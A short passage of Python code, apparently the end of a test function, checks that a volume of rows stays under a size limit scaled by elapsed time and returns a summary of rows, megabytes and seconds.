        need(size < (5 << 20) + took * (128 << 10), f"{size >> 20} MiB of rows in {took:.0f} s")
        g.works(box)
        return f"{rows} rows, {size >> 20} MiB in {took:.0f} s"
